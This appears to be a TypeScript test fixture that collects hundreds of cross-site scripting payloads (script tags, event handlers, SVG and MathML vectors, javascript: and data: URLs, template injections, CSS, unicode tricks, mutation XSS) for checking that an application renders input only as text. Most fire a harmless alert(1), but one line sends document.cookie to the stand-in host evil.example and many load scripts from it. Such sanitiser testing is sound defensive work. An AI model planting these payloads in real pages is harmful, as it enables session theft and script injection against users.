const AWAY = '//evil.example';
const ALERT = 'alert(1)';

const SCRIPTS = [
  `<script>${ALERT}</script>`,
  `<SCRIPT>${ALERT}</SCRIPT>`,
  `<script src=${AWAY}/a.js></script>`,
  `<script src="https:${AWAY}/b.js" async></script>`,
  `<script type=module>import('${AWAY}/c.js')</script>`,
  `<script type="text/javascript">${ALERT};</script>`,
  `<script\n>${ALERT}</script\n>`,
  `<script/x>${ALERT}</script/x>`,
  `<script>${ALERT}//`,
  `</script><script>${ALERT}</script>`,
  `</textarea><script>${ALERT}</script>`,
  `</title><script>${ALERT}</script>`,
  `</style><script>${ALERT}</script>`,
  `</noscript><script>${ALERT}</script>`,
  `--><script>${ALERT}</script>`,
  `]]><script>${ALERT}</script>`,
  `"><script>${ALERT}</script>`,
  `'><script>${ALERT}</script>`,
  '`><script>' + ALERT + '</script>',
  `<scr<script>ipt>${ALERT}</scr</script>ipt>`,
  `<<script>${ALERT};//<</script>`,
  `<script>fetch('${AWAY}/f?'+document.cookie)</script>`,
  `<script nonce>${ALERT}</script>`,
  `<script>import('data:text/javascript,${ALERT}')</script>`,
  `<script src=data:,${ALERT}></script>`,
  `<script src="javascript:${ALERT}"></script>`,
];

const HANDLERS = [
  ...[
    'img src=x onerror',
    'img src onerror',
    'image src=x onerror',
    'video src=x onerror',
    'audio src=x onerror',
  ],
  ...[
    'body onload',
    'body onpageshow',
    'body onhashchange',
    'input autofocus onfocus',
    'select autofocus onfocus',
  ],
  ...[
    'textarea autofocus onfocus',
    'button autofocus onfocus',
    'a href=# autofocus onfocus',
    'details open ontoggle',
  ],
  ...['marquee onstart', 'div onmouseover', 'div onpointerenter', 'div tabindex=1 onfocus', 'iframe onload'],
  ...[
    'object onerror',
    'embed src=x onerror',
    'link rel=stylesheet href=x onerror',
    'style onload',
    'video autoplay onplay',
  ],
  ...[
    'p style=animation-name:x onanimationstart',
    'p style=transition:1s ontransitionend',
    'form onsubmit',
    'keygen autofocus onfocus',
  ],
  ...[
    'dialog open onclose',
    'meter onmouseover',
    'input type=image src=x onerror',
    'x contenteditable onblur',
    'table background=x onload',
  ],
].map((start) => `<${start}=${ALERT}>`);

const BROKEN_OUT = [
  `" onmouseover=${ALERT} x="`,
  `' onmouseover=${ALERT} x='`,
  `" autofocus onfocus=${ALERT} x="`,
  `"><img src=x onerror=${ALERT}>`,
  `'><img src=x onerror=${ALERT}>`,
  `--!><img src=x onerror=${ALERT}>`,
  `<img src=x onerror=${ALERT}//`,
  `<img/src=x/onerror=${ALERT}>`,
  `<img\tsrc=x\tonerror=${ALERT}>`,
  `<img src=x onerror\n=\n${ALERT}>`,
  `<IMG SRC=x OnErRoR=${ALERT}>`,
  `<img src="x" onerror="&#97;lert(1)">`,
  `<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>`,
  '<img src=x onerror=alert`1`>',
  `<img src=x onerror="window['al'+'ert'](1)">`,
  `<img src=x:x onerror=eval('al'+'ert(1)')>`,
  `<img src=https:${AWAY}/i.png>`,
  `<img srcset="${AWAY}/s.png 1x">`,
  `<picture><source srcset=${AWAY}/p.png><img></picture>`,
  `<video poster=${AWAY}/v.png></video>`,
];

const DRAWN = [
  `<svg onload=${ALERT}>`,
  `<svg/onload=${ALERT}>`,
  `<svg><script>${ALERT}</script></svg>`,
  `<svg><script href=data:,${ALERT} /></svg>`,
  `<svg><script xlink:href=${AWAY}/x.js /></svg>`,
  `<svg><animate onbegin=${ALERT} attributeName=x dur=1s>`,
  `<svg><set onbegin=${ALERT} attributeName=x>`,
  `<svg><a xlink:href="javascript:${ALERT}"><text y=20>x</text></a></svg>`,
  `<svg><image href=x onerror=${ALERT} /></svg>`,
  `<svg><use href="${AWAY}/u.svg#x" /></svg>`,
  `<svg><foreignObject><img src=x onerror=${ALERT}></foreignObject></svg>`,
  `<svg><style>@import '${AWAY}/s.css'</style></svg>`,
  `<svg><a><animate attributeName=href values=javascript:${ALERT} /></a></svg>`,
  `<math href="javascript:${ALERT}">x</math>`,
  `<math><mi xlink:href="data:text/html,<script>${ALERT}</script>">x</mi></math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${ALERT}>x</maction></math>`,
];

const ADDRESSES = [
  `javascript:${ALERT}`,
  `JaVaScRiPt:${ALERT}`,
  `java\tscript:${ALERT}`,
  `  javascript:${ALERT}`,
  `javascript://%0a${ALERT}`,
  `javascript:/*--></title>*/${ALERT}`,
  `data:text/html,<script>${ALERT}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `<a href="javascript:${ALERT}">x</a>`,
  `<a href="jav&#x09;ascript:${ALERT}">x</a>`,
  `<a href="&#106;avascript:${ALERT}">x</a>`,
  `<a href=\u0001javascript:${ALERT}>x</a>`,
  `<a href=data:text/html,x target=_blank>x</a>`,
  `<a href=${AWAY} ping=${AWAY}/ping>x</a>`,
  `<form action=javascript:${ALERT}><button>x</button></form>`,
  `<button form=f formaction=javascript:${ALERT}>x</button>`,
  `<base href=${AWAY}/>`,
  `<base href="javascript:/a/">`,
  `<area href=javascript:${ALERT}>`,
  `<isindex action=javascript:${ALERT} type=image>`,
];

const TEMPLATES = [
  `{{constructor.constructor('${ALERT}')()}}`,
  `{{$on.constructor('${ALERT}')()}}`,
  `{{[].pop.constructor('${ALERT}')()}}`,
  `{{'a'.constructor.prototype.charAt=[].join}}`,
  `{{7*7}}`,
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '@if (alert(1)) {}',
  '@{{alert(1)}}',
  `[innerHTML]="x"`,
  `(click)="${ALERT}"`,
  `<div [innerHTML]="'<img src=x onerror=${ALERT}>'"></div>`,
  `<div (click)="${ALERT}">x</div>`,
  `<div ng-app ng-csp>{{x=$on.curry.call().${ALERT}}}</div>`,
  `<div v-html="'<img src=x onerror=${ALERT}>'"></div>`,
  `<div x-data x-init=${ALERT}></div>`,
  `<pr-root></pr-root>`,
  `<ng-template>{{${ALERT}}}</ng-template>`,
  `__proto__`,
  `constructor`,
];

const MARKDOWN = [
  `[x](javascript:${ALERT})`,
  `[x](  javascript:${ALERT})`,
  `![x](x"onerror="${ALERT})`,
  `![x](${AWAY}/i.png)`,
  `[x](${AWAY} "t" onmouseover=${ALERT})`,
  `<javascript:${ALERT}>`,
  `[x]: javascript:${ALERT}`,
  `[![x](x)](javascript:${ALERT})`,
  `\`\`\`html\n<script>${ALERT}</script>\n\`\`\``,
  `$\\href{javascript:${ALERT}}{x}$`,
  `[x](command:workbench.action.quit)`,
  `https:${AWAY}/linkified`,
];

const STYLES = [
  `<style>@import '${AWAY}/a.css';</style>`,
  `<style>body{background:url(${AWAY}/b.png)}</style>`,
  `<style>*{display:none!important}</style>`,
  `<div style="background:url(${AWAY}/c.png)">x</div>`,
  `<div style="width:expression(${ALERT})">x</div>`,
  `<div style="-moz-binding:url(${AWAY}/x.xml#x)">x</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
  `<link rel=stylesheet href=${AWAY}/d.css>`,
  `<link rel=preload as=script href=${AWAY}/e.js>`,
  `<link rel=dns-prefetch href=${AWAY}>`,
  `<link rel=import href=${AWAY}/f.html>`,
  `"; background: url(${AWAY}/g.png); x: "`,
];

const UNICODE = [
  `＜script＞${ALERT}＜/script＞`,
  `\u202E<script>${ALERT}</script>\u202C`,
  `<scr\u200Bipt>${ALERT}</scr\u200Bipt>`,
  `<\u0130mg src=x onerror=${ALERT}>`,
  `<\u017Fcript>${ALERT}</\u017Fcript>`,
  `<svg\u3000onload=${ALERT}>`,
  `<img src=x onerror\u00A0=${ALERT}>`,
  `\uFEFF<script>${ALERT}</script>`,
  `%3Cscript%3E${ALERT}%3C/script%3E`,
  `&lt;script&gt;${ALERT}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${ALERT}&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003e${ALERT}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${ALERT}+ADw-/script+AD4-`,
  `\u2028${ALERT}\u2029`,
  `<a\u0301 onclick=${ALERT}>`,
  `👩‍👩‍👧<img src=x onerror=${ALERT}>`,
];

const FRAMES = [
  `<iframe src=${AWAY}></iframe>`,
  `<iframe src=javascript:${ALERT}></iframe>`,
  `<iframe srcdoc="<script>parent.${ALERT}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${ALERT}&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${ALERT}</script>"></iframe>`,
  `<iframe sandbox="allow-scripts allow-modals" srcdoc="<script>${ALERT}</script>"></iframe>`,
  `<frameset><frame src=javascript:${ALERT}></frameset>`,
  `<object data=javascript:${ALERT}></object>`,
  `<object data="data:text/html,<script>${ALERT}</script>"></object>`,
  `<embed src=javascript:${ALERT}>`,
  `<embed src=${AWAY}/e.swf>`,
  `<portal src=${AWAY}></portal>`,
  `<fencedframe></fencedframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${ALERT}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
];

const MUTATIONS = [
  `<noscript><p title="</noscript><img src=x onerror=${ALERT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ALERT}></style>`,
  `<svg></p><style><a id="</style><img src=x onerror=${ALERT}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${ALERT} src>">`,
  `<template><img src=x onerror=${ALERT}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${ALERT}></template>`,
  `<select><style></select><img src=x onerror=${ALERT}></style>`,
  `<xmp><p title="</xmp><img src=x onerror=${ALERT}>">`,
  `<listing>&lt;img src=x onerror=${ALERT}&gt;</listing>`,
  `<table><tr><td><svg><desc><img src=x onerror=${ALERT}>`,
  `<a id=x><a id=x name=cookie>`,
  `<form id=documentElement><input name=parentNode></form>`,
  `<!--><img src=x onerror=${ALERT}>-->`,
  `<?xml><img src=x onerror=${ALERT}>?>`,
  `<![CDATA[<img src=x onerror=${ALERT}>]]>`,
  `<plaintext>`,
];

/** Texts that would run, load, frame, restyle or break the page if any of them were taken for more than text. */
export const PAYLOADS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...BROKEN_OUT,
  ...DRAWN,
  ...ADDRESSES,
  ...TEMPLATES,
  ...MARKDOWN,
  ...STYLES,
  ...UNICODE,
  ...FRAMES,
  ...MUTATIONS,
];

/** Without what ends a line. */
export const asLine = (text: string): string => text.replace(/\p{Cc}|\p{Zl}|\p{Zp}/gu, ' ');

/** For fields of one line: those that are no longer than the field. */
export const onOneLine = (most: number): readonly string[] =>
  PAYLOADS.map(asLine).filter(({ length }) => length <= most);

/** All of them, as many in each text as fit. */
export function packed(texts: readonly string[], most: number, between = '\n'): readonly string[] {
  return texts.reduce<string[]>((packs, text) => {
    const last = packs.at(-1);
    if (last === undefined || last.length + between.length + text.length > most) return [...packs, text];
    return [...packs.slice(0, -1), last + between + text];
  }, []);
}
